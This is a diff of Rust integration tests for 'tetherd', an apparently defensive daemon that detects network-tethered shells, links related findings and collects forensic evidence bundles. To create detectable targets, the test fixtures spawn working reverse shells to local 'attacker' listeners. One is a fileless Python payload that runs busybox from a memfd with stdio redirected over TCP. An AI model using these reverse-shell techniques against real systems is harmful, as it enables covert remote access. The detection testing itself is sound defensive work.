@@ -55,11 +55,11 @@ impl Tied {
         Self { victim: Victim::spawn(command), attacker }
     }
 
-    /// A program that lives in memory alone.
-    fn in_memory() -> Self {
+    /// A program that lives in memory alone: busybox and a tail of one's own, so that no other test has the same.
+    fn in_memory(tail: &str) -> Self {
         let attacker = Listener::tcp();
         let code = format!(
-            "import os, socket\nm = os.memfd_create('sh')\nos.write(m, open('/usr/bin/busybox', 'rb').read())\n\
+            "import os, socket\nm = os.memfd_create('sh')\nos.write(m, open('/usr/bin/busybox', 'rb').read() + b'{tail}')\n\
              s = socket.create_connection(('127.0.0.1', {}))\n\
              for n in 0, 1, 2: os.dup2(s.fileno(), n)\nos.execve(m, ['sh'], {{}})\n",
             attacker.port()
@@ -137,13 +137,13 @@ fn memory_is_kept_and_links_two_findings() {
     require!("python3", "busybox");
     let daemon = daemon();
     let from_memory = |record: &Finding| record.property("Executable_Origin")["kind"] == "memfd";
-    let first = Tied::in_memory();
+    let first = Tied::in_memory("links");
     let one = first.found(&daemon, from_memory);
-    is_copied(&daemon, &one, &fs::read("/usr/bin/busybox").unwrap());
+    is_copied(&daemon, &one, &[fs::read("/usr/bin/busybox").unwrap(), b"links".to_vec()].concat());
     assert!(one.property("Related_Findings").is_null(), "{}", one.0);
     drop(first);
     daemon.wait_for("the first one ends", |record| record.id() == one.id() && record.state() == "INACTIVE");
-    let second = Tied::in_memory();
+    let second = Tied::in_memory("links");
     let two = second.found(&daemon, from_memory);
     let link = |to: &Finding| json!({"id": to.id(), "reasons": ["executable"], "firstSeen": to.0["finding"]["eventTime"]});
     let linked = |record: &Finding, to: &Finding| {
@@ -154,6 +154,52 @@ fn memory_is_kept_and_links_two_findings() {
         .wait_for("the first names the second", |record| record.id() == one.id() && linked(record, &two));
     assert_eq!(again.state(), "INACTIVE", "it is over still");
     assert_eq!(again.count(), one.count());
+}
+
+/// An address of this machine that is not on loopback.
+fn own_address() -> Option<std::net::IpAddr> {
+    // Nothing is sent: the kernel only chooses a route.
+    let socket = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
+    socket.connect("192.0.2.1:9").ok()?;
+    socket.local_addr().ok().map(|address| address.ip()).filter(|ip| !ip.is_loopback())
+}
+
+/// Two findings with the same peer, and one with another: linked both ways, in the records and in `show`.
+#[test]
+fn one_peer_links_two_findings() {
+    require!("dash");
+    let Some(ip) = own_address() else { return common::impossible("it has no address but loopback's") };
+    let daemon = daemon();
+    let with = |ip: &str| {
+        let attacker = Listener::at(ip);
+        let mut command = Command::new("/usr/bin/dash");
+        let stream = TcpStream::connect((ip, attacker.port())).unwrap();
+        let stdio = || Stdio::from(OwnedFd::from(stream.try_clone().unwrap()));
+        command.stdin(stdio()).stdout(stdio()).stderr(stdio());
+        Tied { victim: Victim::spawn(command), attacker }
+    };
+    let ip = ip.to_string();
+    let (first, other) = (with(&ip), with("127.0.0.1"));
+    let one = first.found(&daemon, |record| runs(record, "dash"));
+    let apart = other.found(&daemon, |record| runs(record, "dash"));
+    drop(first);
+    daemon.wait_for("the first one ends", |record| record.id() == one.id() && record.state() == "INACTIVE");
+    let second = with(&ip);
+    let two = second.found(&daemon, |record| runs(record, "dash"));
+    for (own, to) in [(&one, &two), (&two, &one)] {
+        let links =
+            |record: &Finding| record.property("Related_Findings").as_array().cloned().unwrap_or_default();
+        let linked = daemon.wait_for("the link", |record| {
+            record.id() == own.id() && links(record).iter().any(|link| link["id"] == to.id())
+        });
+        let link = links(&linked).into_iter().find(|link| link["id"] == to.id()).unwrap();
+        assert_eq!(link["reasons"], json!(["peer", "executable"]), "{}", linked.0);
+        assert!(links(&linked).iter().all(|link| link["id"] != apart.id()), "{}", linked.0);
+        let spool = daemon.place().spool().display().to_string();
+        let shown = common::daemon::tetherd(&["show", own.id(), "--spool", &spool]).stdout;
+        let shown = String::from_utf8(shown).unwrap();
+        assert!(shown.contains("Related Findings") && shown.contains(to.id()), "{shown}");
+    }
 }
 
 #[test]
@@ -262,6 +308,49 @@ fn other_peers_of_its_network_namespace() {
     assert!(found.property("Process_Namespaces")["net"].is_string());
 }
 
+/// A launcher is another program a moment later, in other namespaces: whatever was read in time is the launcher's, the
+/// rest is the later program's and says so.
+#[test]
+fn a_launcher_and_what_it_became() {
+    require!("unshare", "nsenter", "dash");
+    let daemon = daemon();
+    let host = holder(&["-n"], "echo ready\nread line");
+    let target = host.pid().to_string();
+    let mut later_seen = 0;
+    for _ in 0..6 {
+        let mut command = Command::new("nsenter");
+        command.args(["-t", &target, "-n", "/usr/bin/dash"]).env("SUDO_USER", "eve");
+        let tied = Tied::by(command);
+        let found = tied.found(&daemon, |_| true);
+        let (own, later) = (found.property("Process_Namespaces"), found.property("Later_Program"));
+        let inside = |namespaces: &Value| namespaces["net"].is_string();
+        if runs(&found, "dash") {
+            // It had become that by the first look.
+            assert!(inside(own) && later.is_null(), "{}", found.0);
+            continue;
+        }
+        assert!(runs(&found, "nsenter"), "{}", found.0);
+        // As far as the launcher had come by then: it enters namespaces itself.
+        assert!(own.is_object(), "{}", found.0);
+        let environment = match later.is_null() {
+            true => found.property("Process_Environment"),
+            false => {
+                later_seen += 1;
+                assert!(later["path"].as_str().unwrap().ends_with("/dash"), "{}", found.0);
+                assert!(inside(&later["namespaces"]), "{}", found.0);
+                assert!(found.property("Process_Environment").is_null(), "{}", found.0);
+                let missing = found.property("Enrichment_Status")["missing"].to_string();
+                assert!(missing.contains("environment: it has executed another program since"), "{missing}");
+                &later["environment"]
+            }
+        };
+        assert_eq!(environment["values"]["SUDO_USER"], "eve", "{}", found.0);
+        // Its program's file is there by the first look, and so is where it came from.
+        assert_eq!(found.property("Executable_Origin")["kind"], "host", "{}", found.0);
+    }
+    common::say(&format!("the later program in {later_seen} of 6"));
+}
+
 /// What cannot be kept is said, and the finding is there in time all the same.
 #[test]
 fn a_full_directory_and_an_ended_process_are_said() {
@@ -273,7 +362,8 @@ fn a_full_directory_and_an_ended_process_are_said() {
     let said = found.property("Enrichment_Status")["missing"].to_string();
     assert!(said.contains("copy of the executable: the evidence directory is full"), "{}", found.0);
     let evidence = daemon.place().spool().join("evidence");
-    assert_eq!(fs::read_dir(&evidence).unwrap().count(), 0);
+    // The daemon sees other tests' programs as well, and small ones fit.
+    assert!(!evidence.join(sha256(&fs::read("/usr/bin/dash").unwrap())).exists());
 
     let mut command = Command::new("/usr/bin/dash");
     command.args(["-c", ":"]);
@@ -284,4 +374,91 @@ fn a_full_directory_and_an_ended_process_are_said() {
     let told = !ended.property("Process_Namespaces").is_null();
     let said = ended.property("Enrichment_Status")["missing"].to_string();
     assert!(told || said.contains("the process has gone"), "{}", ended.0);
+}
+
+/// `tetherd evidence` while it lives, and when it has ended.
+#[test]
+fn collected_while_it_lives() {
+    require!("python3", "busybox", "sha256sum", "tar");
+    let daemon = daemon();
+    let tied = Tied::in_memory("kept");
+    let found = tied.found(&daemon, |record| record.property("Executable_Origin")["kind"] == "memfd");
+    let (pid, spool) = (tied.victim.pid(), daemon.place().spool().display().to_string());
+    let place = tempfile::tempdir().unwrap();
+    let collect = |name: &str, more: &[&str]| {
+        let output = place.path().join(name);
+        let to = output.display().to_string();
+        let arguments = [&["evidence", found.id(), "--spool", &spool, "-o", &to], more].concat();
+        let said = common::daemon::tetherd(&arguments);
+        assert!(said.status.success(), "{}", String::from_utf8_lossy(&said.stderr));
+        let manifest = fs::read(output.join("manifest.json")).unwrap();
+        (output, serde_json::from_slice::<Value>(&manifest).unwrap(), String::from_utf8(said.stdout).unwrap())
+    };
+    let (bundle, manifest, said) = collect("living", &["--memory"]);
+    let live = bundle.join(format!("live/{pid}"));
+    let text = |name: &str| String::from_utf8_lossy(&fs::read(live.join(name)).unwrap()).into_owned();
+    let busybox = [fs::read("/usr/bin/busybox").unwrap(), b"kept".to_vec()].concat();
+    assert!(fs::read(live.join("exe")).unwrap() == busybox, "the program that has no file");
+    assert!(
+        fs::read(bundle.join("programs").join(sha256(&busybox))).unwrap() == busybox,
+        "the daemon's copy"
+    );
+    assert!(text("status").contains(&format!("Pid:\t{pid}\n")));
+    assert!(text("links.tsv").contains("exe\t/memfd:sh (deleted)"), "{}", text("links.tsv"));
+    let inode = found.text("Socket_Inode");
+    assert!(text("fds.tsv").contains(&format!("0\tsocket:[{inode}]")), "{}", text("fds.tsv"));
+    let network = fs::read_link(format!("/proc/{pid}/ns/net")).unwrap().display().to_string();
+    let network = bundle.join(format!("live/net-{}", network.trim_matches(|c: char| !c.is_ascii_digit())));
+    assert!(fs::read_to_string(network.join("tcp")).unwrap().contains(inode));
+    let process = |manifest: &Value| {
+        let all = manifest["processes"].as_array().unwrap().clone();
+        all.into_iter().find(|process| process["pid"] == pid).unwrap()
+    };
+    assert_eq!(
+        (&process(&manifest)["state"], &process(&manifest)["role"]),
+        (&json!("lives"), &json!("command"))
+    );
+    assert!(said.contains(&format!("gcore -a -o core-{} {pid}", found.id())), "{said}");
+    drop(tied);
+    daemon.wait_for("it ends", |record| record.id() == found.id() && record.state() == "INACTIVE");
+    let (bundle, manifest, _) = collect("ended", &[]);
+    assert_ne!(process(&manifest)["state"], "lives", "{manifest:#}");
+    assert!(!bundle.join(format!("live/{pid}")).exists());
+    assert!(fs::read(bundle.join("programs").join(sha256(&busybox))).unwrap() == busybox);
+}
+
+/// What is kept of an environment, and of what came after the first command.
+#[test]
+fn collected_with_and_without_secrets() {
+    require!("bash");
+    let daemon = daemon();
+    let mut command = Command::new("/bin/bash");
+    command.env("DB_PASSWORD", "hunter2").env("SSH_CLIENT", "192.0.2.7 40000 22");
+    let tied = Tied::by(command);
+    let found = tied.found(&daemon, |record| runs(record, "bash"));
+    let mut session = tied.attacker.accept();
+    session.run("sleep 300 </dev/null >/dev/null 2>&1 & echo started");
+    let spool = daemon.place().spool().display().to_string();
+    let place = tempfile::tempdir().unwrap();
+    for (name, more) in [("listed", [].as_slice()), ("full", ["--full"].as_slice())] {
+        let output = place.path().join(name);
+        let to = output.display().to_string();
+        let arguments = [&["evidence", found.id(), "--spool", &spool, "-o", &to], more].concat();
+        assert!(common::daemon::tetherd(&arguments).status.success());
+        let environ = fs::read(output.join(format!("live/{}/environ", tied.victim.pid()))).unwrap();
+        let environ = String::from_utf8_lossy(&environ).into_owned();
+        assert!(environ.contains("SSH_CLIENT=192.0.2.7 40000 22"), "{environ}");
+        assert!(environ.contains("DB_PASSWORD"), "{environ}");
+        assert_eq!(environ.contains("hunter2"), name == "full", "{environ}");
+        // What it started in the background holds nothing of the tether, and is kept.
+        let manifest: Value =
+            serde_json::from_slice(&fs::read(output.join("manifest.json")).unwrap()).unwrap();
+        let processes = manifest["processes"].as_array().unwrap();
+        let sleeps = processes.iter().any(|process| {
+            let directory = process["directory"].as_str().unwrap_or("none");
+            fs::read(output.join(directory).join("cmdline")).is_ok_and(|line| line.starts_with(b"sleep\0"))
+        });
+        assert!(sleeps, "{manifest:#}");
+    }
+    session.run("kill $!");
 }
